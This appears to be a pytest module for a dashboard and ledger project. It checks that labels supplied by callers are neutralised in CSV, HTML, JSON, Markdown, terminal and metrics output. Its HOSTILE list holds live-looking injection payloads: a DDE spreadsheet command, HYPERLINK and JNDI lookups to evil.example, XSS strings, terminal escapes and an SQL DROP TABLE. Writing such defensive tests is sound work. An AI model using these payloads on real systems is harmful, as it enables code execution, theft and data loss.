"""Labels come from callers: whatever they are, no output obeys them."""

# ruff: noqa: RUF001, E501

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from dashboards import export
from dashboards.metrics import Metrics
from dashboards.plotted import chart_rows
from dashboards.reader import serve
from dashboards.render import as_csv, as_html, as_json, as_markdown, as_rich
from dashboards.reports import run
from dashboards.screen import overview
from router.ledger.drain import drain
from router.ledger.spool import Spool
from router.ledger.store import Ledger
from tests.support.entries import entry

HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "＠SUM(1)",
    '=HYPERLINK("http://evil.example","x")', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>", '"><svg/onload=alert(1)>', "' onmouseover='alert(1)", "<!--", "]]>",
    "&lt;b&gt;", "javascript:alert(1)", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x",
    "\x9b31m", "a\nb", "a\r\nb", "a\x00b", "a\x08\x08\x08b", "\u202egnp.exe", "\u200bzero", "\ufeffbom",
    "| a | b |", "[x](http://evil.example)", "![x](http://evil.example/x.png)", "`code`", "**bold**", "# head",
    '"quoted", and, commas', "'; DROP TABLE ledger; --", "${jndi:ldap://evil.example}", "{{7*7}}", "%s%s%n",
    "[bold red]rich[/]", "\u2028line", "a" * 300, "☃ 雪 🎉",
]  # fmt: skip

CONTROL = {chr(code) for code in (*range(32), *range(127, 160))} - {"\n"}


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    """A ledger in which every label there is, is hostile."""
    folder = tmp_path_factory.mktemp("data")
    spool = Spool(Ledger(folder).spool, "w")
    spool.write(
        entry(
            request_id=f"r{number}", key=label, team=label, user=label, tags=(label,), session=label, run=label,
            model=label, provider=label, policy=label, asked=label, reason=label, served_model=label,
            verdicts={label: label}, refused={label: label}, ended="accepted", attempts=1, total_cost=1,
            total_ms=1.0, escalated=False,
        )
        for number, label in enumerate(HOSTILE)
    )  # fmt: skip
    spool.close()
    drain(Ledger(folder))
    return folder


@pytest.fixture(scope="module", params=["models", "checks", "attempts"])
def table(request, data):
    return run(data, request.param)


class Tags(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.opened = set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.opened.add(tag)
        assert not [name for name, _ in attrs if name.startswith("on")]


def test_there_are_enough_of_them():
    assert len(set(HOSTILE)) >= 40


def test_no_spreadsheet_computes_a_cell(table):
    text = as_csv(table)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert cell.lstrip()[:1] not in set("=+@＝＠") | {"\t", "\r"}
            assert not (cell.lstrip().startswith("-") and not cell.lstrip("-").replace(".", "").isdigit())
    assert not CONTROL & set(text)


def test_no_page_runs_a_label(table):
    assert not Tags(as_html(table)).opened & {"script", "img", "svg", "b"}


def test_json_may_stand_in_a_page_and_is_still_itself(table):
    text = as_json(table)
    assert not set("<>&") & set(text)
    assert json.loads(text)["rows"]


def test_the_pages_own_answers_are_harmless_too(data):
    answers = io.StringIO()
    queries = [
        json.dumps({"report": name}) for name in ("spend", "models", "recent", "attempts", "escalations")
    ]
    serve(queries, answers, data, None)
    lines = answers.getvalue().splitlines()
    assert len(lines) == len(queries), "an answer is one line"
    assert not set("<>&") & set(answers.getvalue())
    assert all("rows" in json.loads(line) for line in lines)


def test_no_terminal_obeys_a_label(table, data):
    for shown in (as_rich(table), overview(run(data, "overview"), run(data, "models"), run(data, "trend"))):
        file = io.StringIO()
        Console(file=file, width=400, force_terminal=False).print(shown)
        assert not CONTROL & set(file.getvalue())
        assert "\u202e" not in file.getvalue()


def test_markdown_makes_neither_links_nor_pictures_nor_tags(table):
    html = MarkdownIt("gfm-like", {"linkify": False}).render(as_markdown(table))
    assert not Tags(html).opened & {"a", "img", "script", "strong", "code", "svg"}


def test_focus_is_computed_by_no_spreadsheet_and_has_whole_lines(data, tmp_path):
    count = export.focus(data, tmp_path / "focus.csv")
    text = (tmp_path / "focus.csv").read_text()
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == count + 1
    for row in rows[1:]:
        assert len(row) == len(rows[0])
        assert not [cell for cell in row if cell.lstrip()[:1] in set("=+@＝＠\t\r")]
    assert not CONTROL & set(text)


def test_prometheus_keeps_its_lines(data):
    metrics = Metrics()
    metrics.write(entry(model=label, policy=label, baseline_cost=1) for label in HOSTILE)
    for line in metrics.expose().decode().split("\n"):
        assert line == "" or line.startswith(("farthing_", "# ")), line[:80]


def test_a_charts_rows_are_plain_values(table):
    for row in chart_rows(table):
        assert all(value is None or isinstance(value, str | int | float) for value in row.values())


@pytest.mark.parametrize("label", [HOSTILE[0], "'; DROP TABLE ledger; --", "a\nb", "%s%s%n", "☃ 雪 🎉"])
def test_a_label_is_found_by_itself_and_by_nothing_else(data, label):
    """Bound, never pasted: the filter finds this label's rows, and SQL in it does nothing."""
    found = run(data, "recent", where=[f"model={label}"])
    expected = [other for other in HOSTILE if other == label.strip()]
    assert len(found.rows) == len(expected)
